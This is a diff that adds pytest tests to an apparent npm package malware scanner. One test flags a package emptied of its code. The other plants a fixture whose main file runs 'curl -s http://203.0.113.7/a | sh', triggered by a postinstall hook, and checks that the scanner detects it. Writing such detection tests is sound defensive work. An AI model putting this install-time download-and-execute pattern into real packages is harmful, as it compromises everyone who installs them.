@@ -244,3 +244,29 @@ def test_ordinary_node_code_stays_clean(tmp_path: Path) -> None:
     report = run_exam(npm_package(tmp_path, "honest", {"index.js": library}), ONLY_BEHAVIOUR)
     assert blocking(report) == set()
     assert report.verdict.passed
+
+
+def test_a_package_emptied_of_its_code_is_reported_as_sabotage(tmp_path: Path) -> None:
+    files = {"Readme.md": "# gone\n", ".eslintrc": "{}", ".github/FUNDING.yml": "x: y\n"}
+    report = run_exam(npm_package(tmp_path, "emptied", files), ONLY_BEHAVIOUR)
+    [finding] = findings(report, "sab-package-without-code")
+    assert finding.severity is Severity.MEDIUM
+    assert finding.location is not None and finding.location.path == "package/package.json"
+    data_only = npm_package(tmp_path, "ids", {"index.json": "[]", "README.md": "# ids\n"})
+    assert findings(run_exam(data_only, ONLY_BEHAVIOUR), "sab-package-without-code") == []
+
+
+def test_node_dot_in_an_install_hook_runs_the_main_file_at_install_time(tmp_path: Path) -> None:
+    main = (
+        "const { exec } = require('child_process');\nexec('curl -s http://203.0.113.7/a | sh');\n"
+    )
+    tgz = npm_package(
+        tmp_path,
+        "dot",
+        {"build/main.js": main},
+        main="build/main.js",
+        scripts={"postinstall": "node . --postinstall"},
+    )
+    report = run_exam(tgz, ONLY_BEHAVIOUR)
+    contexts = {f.evidence.details.get("context") for f in findings(report, "thr-shell-downloader")}
+    assert "install" in contexts
